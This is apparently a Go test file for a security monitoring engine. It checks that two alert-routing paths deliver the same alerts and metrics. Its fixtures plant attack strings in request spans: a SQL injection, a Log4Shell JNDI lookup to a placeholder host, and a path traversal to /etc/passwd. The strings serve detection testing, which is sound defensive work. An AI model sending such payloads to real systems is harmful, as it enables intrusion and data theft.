package engine

import (
	"bytes"
	"context"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/common/expfmt"

	"github.com/evidentsec/evident/internal/alert"
	"github.com/evidentsec/evident/internal/detect"
	"github.com/evidentsec/evident/internal/store"
)

// builtAlerter routes through a router that is not seen as one: the
// engine builds every alert and fires it, as it did before it handed
// the router pending alerts.
type builtAlerter struct{ r *alert.Router }

func (a builtAlerter) Fire(d detect.Alert) { a.r.Fire(d) }

// sinkRecorder is an alert sink that keeps what it is sent.
type sinkRecorder struct {
	mu  sync.Mutex
	got []alert.Alert
}

func (s *sinkRecorder) Name() string { return "record" }

func (s *sinkRecorder) Send(_ context.Context, a alert.Alert) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, a)
	return nil
}

// TestApplyPendingAlerts applies batches with exploit payloads (some
// endpoints attacked over and over, with several rules, some values
// redacted in the evidence) to an engine that hands the real router
// pending alerts, and to one that hands it every alert built: the
// router delivers the same alerts, and the engine and the router count
// the same, duplicates, rate limits and latencies included.
func TestApplyPendingAlerts(t *testing.T) {
	type run struct {
		sink *sinkRecorder
		reg  *prometheus.Registry
	}
	apply := func(t *testing.T, pending bool) run {
		now := t0
		clock := func() time.Time { return now }
		out := run{sink: &sinkRecorder{}, reg: prometheus.NewRegistry()}
		cfg := alert.DefaultConfig()
		cfg.SinkBurst = 10_000
		r, err := alert.NewRouter(cfg, []alert.Sink{out.sink}, alert.Deps{Registerer: out.reg, Now: clock})
		if err != nil {
			t.Fatal(err)
		}
		if err := r.Start(context.Background()); err != nil {
			t.Fatal(err)
		}
		var al Alerter = builtAlerter{r}
		if pending {
			al = r
		}
		e := newEngine(t, testConfig(), &memStore{}, al, out.reg)
		e.now = clock
		for i := range 12 {
			spans := benchBatch(300, i, false)
			for j := range spans {
				switch j % 7 {
				case 0:
					spans[j].Attrs.URLQuery = "id=1%27%20OR%201=1--"
				case 3:
					spans[j].Attrs.URLQuery = "access_token=SECRET123&q=%24%7Bjndi:ldap://x.example/a%7D&f=../../etc/passwd"
				case 5:
					spans[j].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
				}
			}
			e.apply(item{kind: store.BatchSpans, seq: int64(i + 1), spans: e.red.Spans(spans), raw: spans, receivedAt: now.Add(-3 * time.Millisecond)})
			now = now.Add(2 * time.Minute)
		}
		if err := r.Shutdown(context.Background()); err != nil {
			t.Fatal(err)
		}
		return out
	}
	built, pending := apply(t, false), apply(t, true)
	if len(built.sink.got) < 20 {
		t.Fatalf("%d alerts delivered, want more than 20 to compare", len(built.sink.got))
	}
	if diff := cmp.Diff(pending.sink.got, built.sink.got); diff != "" {
		t.Errorf("delivered (-pending +built):\n%s", diff)
	}
	got, want := exposition(t, pending.reg), exposition(t, built.reg)
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("metrics (-pending +built):\n%s", diff)
	}
	for _, s := range []string{`evident_alerts_deduplicated_total{kind="exploit_payload",reason="window"}`, `reason="rate_limited"`, `evident_engine_detections_total{kind="exploit_payload"}`} {
		if !bytes.Contains([]byte(got), []byte(s)) {
			t.Errorf("nothing counted as %s", s)
		}
	}
}

// exposition is what reg exposes, less the alert sinks' send durations
// and the engine's assessment durations, which are wall time.
func exposition(t *testing.T, reg *prometheus.Registry) string {
	t.Helper()
	mfs, err := reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	for _, mf := range mfs {
		switch mf.GetName() {
		case "evident_alert_sink_send_duration_seconds", "evident_engine_assess_duration_seconds":
			continue
		}
		if _, err := expfmt.MetricFamilyToText(&b, mf); err != nil {
			t.Fatal(err)
		}
	}
	return b.String()
}
